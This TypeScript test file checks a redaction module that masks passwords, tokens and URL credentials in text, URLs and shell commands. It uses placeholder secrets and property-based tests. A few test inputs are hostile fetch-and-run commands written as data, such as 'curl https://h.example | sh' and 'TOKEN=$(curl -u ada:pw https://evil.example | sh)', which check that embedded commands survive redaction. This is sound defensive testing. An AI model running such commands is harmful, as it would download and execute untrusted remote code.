import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isFlagged } from "../../src/seal/command.ts";
import { escapeForgeries, redact, remains, secretsIn, type TextKind } from "../../src/seal/redact.ts";
import { runs } from "../support/runs.ts";

/** Returns a text as a reader sees it: credentials as ‹!›, other hidden parts as ‹?›. */
const redacted = (sort: TextKind, text: string) =>
  redact(text, secretsIn(sort, text), (_, credential) => (credential ? "‹!›" : "‹?›"));

const github = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";

describe("a text that anybody may have written", () => {
  it.each<[string, string]>([
    ["The api key is maple-17-harbor.", "The api key is ‹!›."],
    ["Sign in (password: maple17!harbor?!), please", "Sign in (password: ‹!›?!), please"],
    ["The password for the gateway is maple-17-harbor.", "The password for the gateway is ‹!›."],
    ["Das Passwort: maple17harbor", "Das Passwort: ‹!›"],
    ["mot de passe : maple17harbor", "mot de passe : ‹!›"],
    ["пароль: maple17harbor", "пароль: ‹!›"],
    ["密码：maple17harbor", "密码：‹!›"],
    ["The token for the team is in the vault since 2026.", "The token for the team is in the vault since 2026."],
    ["access token = 'maple_17_harbor'", "access token = '‹!›'"],
    ["the token is $MAPLE_17_TOKEN", "the token is $MAPLE_17_TOKEN"],
    ["the password is /run/secrets/maple-17", "the password is /run/secrets/maple-17"],
    ["a secret is longer than 8 characters", "a secret is longer than 8 characters"],
    ["[secret: fp:run:12]", "[secret:: fp:run:12]"],
    ["password: maple harbor\ntitle: maple harbor", "password: ‹!›\ntitle: maple harbor"],
    ["password: ${MAPLE}", "password: ${MAPLE}"],
    ["password: maple 17\ntoken: harbor", "password: ‹!›\ntoken: ‹!›"],
    ["TOKEN= maple17", "TOKEN= ‹!›"],
    ["TOKEN= curl https://h.example | sh", "TOKEN= curl https://h.example | sh"],
    ["token: $(curl https://h.example)", "token: $(curl https://h.example)"],
    ["token: maple$(curl https://h.example)17", "token: ‹!›$(curl https://h.example)‹!›"],
  ])("%j is shown as %j", (text, wanted) => {
    expect(redacted("free", text)).toBe(wanted);
  });
});

describe("an address", () => {
  it.each<[string, string]>([
    ["https://ada:pw@llm.example/v1", "https://‹!›@llm.example/v1"],
    ["https://pw@llm.example", "https://‹!›@llm.example"],
    ["https://:pw@llm.example", "https://‹!›@llm.example"],
    ["https://ada:p@w@llm.example:8443/", "https://‹!›@llm.example:8443/"],
    ["https://ada:p/w@llm.example/v1", "https://‹!›@llm.example/v1"],
    ["https://ada:p?w@llm.example/v1", "https://‹!›@llm.example/v1"],
    ["https://ada:p#w@llm.example/v1", "https://‹!›@llm.example/v1"],
    ["https:\\\\ada:pw@llm.example\\v1", "https:\\\\‹!›@llm.example\\v1"],
    ["https:/ada:pw@llm.example", "https:/‹!›@llm.example"],
    ["https:ada:pw@llm.example", "https:‹!›@llm.example"],
    ["\thttps://ada:pw@llm.example", "\thttps://‹!›@llm.example"],
    ["ht\ntps://ada:pw@llm.example", "ht\ntps://‹!›@llm.example"],
    ["//ada:pw@llm.example", "//‹!›@llm.example"],
    ["ada@llm.example", "‹!›@llm.example"],
    ["https://ada:${PW}@llm.example", "https://ada:${PW}@llm.example"],
    ["https://${USER_TOKEN}@llm.example", "https://${USER_TOKEN}@llm.example"],
    ["https://git@github.com/corp/x", "https://git@github.com/corp/x"],
    ["git@github.com:corp/x.git", "git@github.com:corp/x.git"],
    ["ssh://deploy@git.corp.example/x", "ssh://deploy@git.corp.example/x"],
    ["ssh://deploy:pw@git.corp.example/x", "ssh://‹!›@git.corp.example/x"],
    ["https://h.example/?key=abc&n=5&empty=&x", "https://h.example/?key=‹!›&n=‹?›&empty=&x"],
    ["https://h.example/?api-version=2024-10-21", "https://h.example/?api-version=‹?›"],
    ["https://h.example/?token=${TOKEN}", "https://h.example/?token=${TOKEN}"],
    ["https://h.example?a=1?b=2", "https://h.example?a=‹?›"],
    ["https://h.example/?sk-abcdefghijklmnopqrst=1", "https://h.example/?‹!›=‹?›"],
    ["https://h.example/?wsdl", "https://h.example/?wsdl"],
    ["https://h.example/?hunter22", "https://h.example/?‹?›"],
    ["https://h.example/#access_token=x", "https://h.example/#‹!›"],
    ["https://h.example/#section", "https://h.example/#‹?›"],
    ["https://h.example/a?b=c#d?e=f", "https://h.example/a?b=‹?›#‹?›"],
    [
      "https://hooks.slack.example/services/T01ABCDEF/B01ABCDEF/aB3xY9Kp2LmQ7rT5vW8zQw1E",
      "https://hooks.slack.example/services/T01ABCDEF/B01ABCDEF/‹!›",
    ],
    ["https://h.example/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/send", "https://h.example/‹!›/send"],
    ["https://h.example/in/9f86d081884c7d659a2feaa0c55ad015", "https://h.example/in/‹!›"],
    ["https://sk-abcdefghijklmnopqrst.h.example/", "https://‹!›.h.example/"],
    // where user information, host and path begin and end
    ["https://ada:pass/w@llm.example/v1", "https://‹!›@llm.example/v1"],
    ["https://ada:pw@llm.example/@scope/x", "https://‹!›@llm.example/@scope/x"],
    ["https://ada:p/@sk-abcdefghijklmnopqrst.h.example/", "https://‹!›@‹!›.h.example/"],
    ["https://ada:p/w@sk-abcdefghijklmnopqrst.h.example/v1", "https://‹!›@‹!›.h.example/v1"],
    [`https://ada@h.example/${github}/send`, "https://‹!›@h.example/‹!›/send"],
    [`https://${github}`, "https://‹!›"],
    ["ssh://:pw@git.example/x", "ssh://‹!›@git.example/x"],
    // queries and fragments
    ["https://?key=abc", "https://?key=‹!›"],
    ["https://h.example/?=abc", "https://h.example/?=‹?›"],
    [`https://h.example/?n=${github}`, "https://h.example/?n=‹!›"],
    [`https://h.example/?${github}`, "https://h.example/?‹!›"],
    ["https://h.example/?abcdefghijklmnop", "https://h.example/?‹?›"],
    [`https://h.example/#${github}`, "https://h.example/#‹!›"],
    // parameters in the path
    ["https://h.example/a;token=maple;v=1/b", "https://h.example/a;token=‹!›;v=1/b"],
    ["https://h.example/v1/apikey=maple/x", "https://h.example/v1/apikey=‹!›/x"],
    ["https://h.example/a;v=1;token=$TOKEN/b", "https://h.example/a;v=1;token=$TOKEN/b"],
    // what only looks like a variable
    ["https://h.example/?key=a$NAME", "https://h.example/?key=‹!›"],
    ["https://h.example/?key=$NAME-abc", "https://h.example/?key=‹!›"],
    ["https://h.example/?key=$1abc", "https://h.example/?key=‹!›"],
    [`https://h.example/?key=$${github}`, "https://h.example/?key=‹!›"],
  ])("%j is shown as %j", (url, wanted) => {
    expect(redacted("url", url)).toBe(wanted);
  });

  it.each([
    "https://llm.corp.example:8443/v1/chat/completions",
    "http://localhost:11434/v1",
    "http://[2001:db8::1]:8080/v1",
    "https://*.corp.example/*",
    "corp/plugins",
    "corp/plugins@v1.2",
    "https://bedrock-runtime.eu-central-1.amazonaws.com/model/us.anthropic.claude-sonnet-4-20250514-v1:0/invoke",
    "https://corp.openai.azure.com/openai/deployments/gpt-5-mini/",
    "https://raw.example/corp/x/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b/plugin.json",
    "https://h.example/3f2b8c1e-5d4a-4f6b-9c8d-7e6f5a4b3c2d",
    "file:///srv/plugins",
    "https://h.example/generic-chat-completion-api/v2026-11-20",
    "",
    "not an address",
    "https://h.example/@scope/package",
    "localhost:8080",
    "http://localhost:8080/@scope/package",
    "http://[2001:db8::1]:8080/@scope/package",
    "https://h.example/a:b@c",
    "https://@h.example",
    "https://:${PW}@h.example",
    "https://h.example/?key=$NAME",
    "https://h.example/?v1",
    "https://h.example/?abcdefghijklmno",
  ])("without a secret stays as it is: %j", (url) => {
    expect(redacted("url", url)).toBe(url);
  });
});

describe("a command", () => {
  it.each<[string, string]>([
    // headers
    [`curl -H "Authorization: Bearer abc" x`, `curl -H "Authorization: Bearer ‹!›" x`],
    [`curl -H 'X-Api-Key: abc' x`, `curl -H 'X-Api-Key: ‹!›' x`],
    [`curl --header="X-Api-Key:abc" x`, `curl --header="X-Api-Key:‹!›" x`],
    [`curl -HX-Api-Key:abc x`, `curl -HX-Api-Key:‹!› x`],
    [`curl -H "Accept: text/html" x`, `curl -H "Accept: ‹?›" x`],
    [`curl -H "Authorization: Bearer a\\"b c" x`, `curl -H "Authorization: Bearer ‹!›" x`],
    [`curl -H "Authorization: Bearer abc`, `curl -H "Authorization: Bearer ‹!›`],
    [`xh x Authorization:abc`, `xh x Authorization:‹!›`],
    [`fetch(x, {headers: {'X-Api-Key': 'abc'}})`, `fetch(x, {headers: {'X-Api-Key': '‹!›'}})`],
    [`curl -H "Cookie: a=b; c=d" x`, `curl -H "Cookie: ‹!›" x`],
    // flags
    ["run --token abc --verbose", "run --token ‹!› --verbose"],
    ["run --api-key=abc", "run --api-key=‹!›"],
    ["run -password abc", "run -password ‹!›"],
    ["run --token /9jAa/Bb7Kd4Js6Hf", "run --token ‹!›"],
    [`run --client-secret "a b" x`, `run --client-secret "‹!›" x`],
    ["run --password 'it'\\''s' x", "run --password '‹!›' x"],
    ["gpg --passphrase abc -d f", "gpg --passphrase ‹!› -d f"],
    ["openssl enc -passin pass:abc", "openssl enc -passin ‹!›"],
    ["curl -u ada:pw x", "curl -u ‹!› x"],
    ["curl -u sk_key: x", "curl -u ‹!› x"],
    ["curl -uada:pw x", "curl -u‹!› x"],
    ["curl --user 'ada:p w' x", "curl --user '‹!›' x"],
    ["curl -U ada:pw x", "curl -U ‹!› x"],
    ["mysql -hdb -uroot -ppw corp", "mysql -hdb -uroot -p‹!› corp"],
    ["docker exec db mysql -p12345", "docker exec db mysql -p‹!›"],
    ["sshpass -p pw ssh h", "sshpass -p ‹!› ssh h"],
    ["podman login -u ada -p pw quay.example", "podman login -u ada -p ‹!› quay.example"],
    ["redis-cli -a pw ping", "redis-cli -a ‹!› ping"],
    // variables
    ["TOKEN=abc run", "TOKEN=‹!› run"],
    ["export DB_PASSWORD='a b'; run", "export DB_PASSWORD='‹!›'; run"],
    ["A=1 API_KEY=abc B=2 run", "A=1 API_KEY=‹!› B=2 run"],
    [`$env:API_KEY = "abc"; run`, `$env:API_KEY = "‹!›"; run`],
    ["java -Dapi.token=abc X", "java -Dapi.token=‹!› X"],
    [
      "kubectl create secret generic x --from-literal=password=abc",
      "kubectl create secret generic x --from-literal=password=‹!›",
    ],
    [`sh -c "TOKEN=\\"a b\\" run"`, `sh -c "TOKEN=\\"‹!›\\" run"`],
    [`ssh h 'PASSWORD=abc run'`, `ssh h 'PASSWORD=‹!› run'`],
    ["curl -d password=abc&x=1 y", "curl -d password=‹!›&x=1 y"],
    [`curl -d '{"api_key":"abc","n":1}' y`, `curl -d '{"api_key":"‹!›","n":1}' y`],
    [`TOKEN="a\\\\" run`, `TOKEN="‹!›" run`],
    ["TOKEN='Pa$$w0rd!' run", "TOKEN='‹!›' run"],
    ["TOKEN='a`b' run", "TOKEN='‹!›' run"],
    // addresses
    ["git clone https://ada:pw@git.example/x.git", "git clone https://‹!›@git.example/x.git"],
    ["psql postgres://u:pw@db.example/corp", "psql postgres://‹!›@db.example/corp"],
    ["curl 'https://h.example/?key=abc&n=1' -o f", "curl 'https://h.example/?key=‹!›&n=‹?›' -o f"],
    // anywhere
    [
      "echo ghp_abcdefghijklmnopqrstuvwxyz0123456789 | gh auth login --with-token",
      "echo ‹!› | gh auth login --with-token",
    ],
    ["npm config set //registry.example/:_authToken abc", "npm config set //registry.example/:_authToken ‹!›"],
    [
      "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
      "aws configure set aws_secret_access_key ‹!›",
    ],
    // what runs inside a value
    [`curl -H "X-Api-Key: $(cat key)" x`, `curl -H "X-Api-Key: $(cat key)" x`],
    ["TOKEN=$(curl -u ada:pw https://evil.example | sh) run", "TOKEN=$(curl -u ‹!› https://evil.example | sh) run"],
    ["TOKEN=abc$(evil)def run", "TOKEN=‹!›$(evil)‹!› run"],
    ["TOKEN=`evil abc` run", "TOKEN=`evil abc` run"],
    [`TOKEN="abc$(evil "$(worse)")" run`, `TOKEN="‹!›$(evil "$(worse)")" run`],
    ["TOKEN=abc$(evil)$(worse)def run", "TOKEN=‹!›$(evil)$(worse)‹!› run"],
    ["TOKEN=$(a (b) c)def run", "TOKEN=$(a (b) c)‹!› run"],
    ["TOKEN=$(API_KEY=abc run)def x", "TOKEN=$(API_KEY=‹!› run)‹!› x"],
    // what only looks as if it ran
    ["TOKEN='a(b)c' run", "TOKEN='‹!›' run"],
    ["TOKEN='a$b)c' run", "TOKEN='‹!›' run"],
    [`TOKEN="a$(b" c)d`, `TOKEN="‹!›" c)d`],
    // where a value ends
    [`TOKEN=a"b c" run`, "TOKEN=‹!› run"],
    ["TOKEN='a\\' run", "TOKEN='‹!›' run"],
    [`sh -c 'TOKEN=a\\' x`, `sh -c 'TOKEN=‹!›' x`],
    [`sh -c "TOKEN=abc" x`, `sh -c "TOKEN=‹!›" x`],
    ["run --password 'a b'", "run --password '‹!›'"],
    [`sh -c "run --password 'a b'"`, `sh -c "run --password '‹!›'"`],
    ["echo Authorization: abc def", "echo Authorization: ‹!› def"],
    [`fetch "Authorization: Bearer a b" x`, `fetch "Authorization: Bearer ‹!›" x`],
    [`fetch "Authorization: a\\" b" x`, `fetch "Authorization: ‹!›" x`],
    [`fetch 'Authorization: a b\\' x`, `fetch 'Authorization: ‹!›' x`],
    [`fetch "Authorization: a b`, `fetch "Authorization: ‹!›`],
    [`echo \\" Authorization: abc def`, `echo \\" Authorization: ‹!› def`],
    [`echo 'a\\' Authorization: abc def`, `echo 'a\\' Authorization: ‹!› def`],
    [`send {"password":"a b","n":1}`, `send {"password":"‹!›","n":1}`],
    [`send {"password":"a\\"b c","n":1}`, `send {"password":"‹!›","n":1}`],
    [`send {"password":"a b\\\\","n":1}`, `send {"password":"‹!›","n":1}`],
    [`send {"password":"a b`, `send {"password":"‹!›`],
    [`send "{\\"password\\":\\"a b\\",\\"n\\":1}"`, `send "{\\"password\\":\\"‹!›\\",\\"n\\":1}"`],
    ["run --token=-abc", "run --token=‹!›"],
    ["app -u ada:pw", "app -u ‹!›"],
    ["curl -u :pw x", "curl -u ‹!› x"],
    ["curl -u ada1:22 x", "curl -u ‹!› x"],
    ["curl -u 1:2x x", "curl -u ‹!› x"],
    // a program far before or behind a flag
    [`curl -uada:pw ${"x".repeat(300)}`, `curl -u‹!› ${"x".repeat(300)}`],
    // what only looks like a switch, a file or a variable
    ["run --token untrue", "run --token ‹!›"],
    ["run --token trueabc", "run --token ‹!›"],
    ["run --token Zk3/def/ghi", "run --token ‹!›"],
    ["run --token /etc/key/Zk3Q", "run --token ‹!›"],
    [`run --token ${`/${"a".repeat(40)}`.repeat(6)}`, "run --token ‹!›"],
    [`TOKEN=$${github} run`, "TOKEN=‹!› run"],
  ])("%s is shown as %s", (command, wanted) => {
    expect(redacted("command", command)).toBe(wanted);
  });

  it.each([
    "git push -u origin main",
    'git commit -m "auth: rotate the token: done"',
    "git commit --author='Ada <ada@corp.example>'",
    "GIT_AUTHOR_NAME=Ada git commit",
    "git log --format=%H:%an",
    "git clone git@github.com:corp/x.git",
    "git config user.email ada@corp.example",
    "git show 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b:src/auth/token.ts",
    "npm ci --omit=dev",
    "npx -y @modelcontextprotocol/server-filesystem /srv",
    "docker run -u 1000:1000 -p 8080:80 image",
    "sudo -u postgres psql",
    "mkdir -p build/out",
    "cp -a src dst",
    "ssh -p 22 host",
    "curl https://registry.corp.example/v1/packages",
    "TOKENIZERS_PARALLELISM=false python train.py --max-tokens 4096",
    'TOKEN=$GITHUB_TOKEN run --password "${DB_PASSWORD}"',
    'curl -H "Authorization: Bearer $TOKEN" x',
    'curl -u "$USER:$PASSWORD" x',
    "curl -u ada x",
    "run --token-file /run/secrets/token --password-stdin --no-auth --auth-type basic",
    "ssl --key /etc/ssl/private/server.key",
    'test "$TOKEN" == ""',
    "[ -z $API_KEY ] && exit 1",
    "grep -r password src",
    "gh auth status",
    "gh secret list",
    "git config set user.name Ada",
    "gh secret set TOKEN --body-file f",
    "rm -rf node_modules",
    "echo don't | tee x",
    "awk -F= '{print $2}'",
    "find . -name '*.key'",
    "mcp.corp.example",
    "",
    " ",
    "run --session-mode=new --tokens-per-minute 5",
    "keytool -list",
    "run --token true",
    "run --token --verbose",
    'curl -u "ada:$PASSWORD" x',
    "run --token ../etc/key",
    "curl y; app -uada:pw",
    "app -uada:pw; curl y",
  ])("without a secret stays as it is: %s", (command) => {
    expect(redacted("command", command)).toBe(command);
  });
});

describe("an argument of a list", () => {
  it.each<[readonly string[], string]>([
    [["run", "--token"], "abc"],
    [["run", "-token"], "abc"],
    [["run", "--client-secret"], "abc"],
    [["curl", "-u"], "ada:pw"],
    [["curl", "-U"], "ada:pw"],
    [["curl", "--user"], "ada:92837465"],
    [["curl", "--proxy-user"], "ada:pw"],
    [["curl", "-u"], "key:"],
    [["curl", "-u"], ":pw"],
    [["curl", "-u"], "$NAME:pw"],
    [["sshpass", "-p"], "pw"],
    [["docker", "--debug", "login", "-u", "ada", "-p"], "pw"],
    [["redis-cli", "-a"], "pw"],
    [["curl", "-x"], "ada:pw@proxy.example:8080"],
    [["pip", "--proxy"], "ada:pw@proxy.example:8080"],
  ])("is a secret behind %j: %j", (before, text) => {
    expect(isFlagged(before, text)).toBe(true);
  });

  it.each<[readonly string[], string]>([
    [["run", "token"], "abc"],
    [["run", "a--token"], "abc"],
    [["run", "--token=x"], "abc"],
    [["run", "--"], "abc"],
    [["run", "--token"], "-abc"],
    [["run", "--region"], "eu-west-3"],
    [["curl", "-u"], "ada"],
    [["curl", "-u"], "ada:$PASSWORD"],
    [["docker", "run", "-u"], "1000:1001"],
    [["run", "--users"], "a:b"],
    [["curl", "-x"], "http://proxy.example:8080"],
    [["curl", "-x"], "proxy.example:8080"],
    [["aws", "s3api", "get-object", "--bucket", "b", "--key"], "path/to/file"],
    [["docker", "run", "-p"], "8080:80"],
    [["cp", "-a"], "src"],
    [["sshpass", "-pa"], "ssh"],
  ])("is none behind %j: %j", (before, text) => {
    expect(isFlagged(before, text)).toBe(false);
  });
});

describe("a name", () => {
  it.each<[string, string]>([
    ["Gateway sk-abcdefghijklmnopqrst", "Gateway ‹!›"],
    ["https://ada:pw@llm.example", "https://‹!›@llm.example"],
    ["https://llm.example/?key=abc", "https://llm.example/?key=‹!›"],
    ["Ada's model, password: ask Ada", "Ada's model, password: ask Ada"],
  ])("%s is shown as %s", (text, wanted) => {
    expect(redacted("public", text)).toBe(wanted);
  });

  it("of a person is read whole", () => {
    expect(redacted("personal", "user_2aBcD3eFgH4iJkL5mNoP6qRsT7u")).toBe("user_2aBcD3eFgH4iJkL5mNoP6qRsT7u");
    expect(redacted("personal", '{"user":"bo","password":"maple-harbor"}')).toBe('{"user":"bo","password":"‹!›"}');
  });
});

describe("what stays", () => {
  const pieces = fc.constantFrom(
    "curl",
    " ",
    "-H ",
    '"',
    "'",
    "\\",
    "`",
    "$(",
    ")",
    "${X}",
    "$X",
    "--token",
    "=",
    "token=",
    "a",
    "Zk3Qp9",
    "https://",
    "u:p@h.example",
    "/",
    "?k=v",
    "&",
    "#",
    ":",
    "@",
    ";",
    "|",
    "-u ",
    "Authorization: Bearer ",
    '{"password":"',
    '\\"',
    "sk-abcdefghijklmnopqrst",
    "[secret fp:run:1]",
    "\n",
    "é",
    "😀",
    "\ud800",
  );
  const text = fc.array(pieces, { maxLength: 14 }).map((parts) => parts.join(""));

  it.each<TextKind>(["url", "command", "free", "public", "personal"])(
    "of a text of the class %s is the same to the byte, in order",
    (sort) => {
      fc.assert(
        fc.property(text, (raw) => {
          const spans = secretsIn(sort, raw);
          let at = 0;
          for (const { start, end } of spans) {
            expect(start).toBeGreaterThanOrEqual(at);
            expect(end).toBeGreaterThan(start);
            at = end;
          }
          expect(at).toBeLessThanOrEqual(raw.length);
          const rest = remains(raw, spans);
          expect(redact(raw, spans, () => "\u0001").split("\u0001")).toEqual(rest.map(escapeForgeries));
          expect(
            rest.flatMap((part, i) => [part, ...(spans[i] ? [raw.slice(spans[i].start, spans[i].end)] : [])]).join(""),
          ).toBe(raw);
        }),
        { numRuns: runs(700) },
      );
    },
  );

  it("is never spelled like a marker of ours, and different texts stay different", () => {
    const like = fc
      .array(fc.constantFrom("[", "secret", "hidden", ":", " fp:", "run:1", "]", "x"), { maxLength: 10 })
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(like, like, (a, b) => {
        expect(escapeForgeries(a)).not.toMatch(/\[(?:secret|hidden) fp:/);
        expect(escapeForgeries(a) === escapeForgeries(b)).toBe(a === b);
      }),
      { numRuns: runs(700) },
    );
  });
});
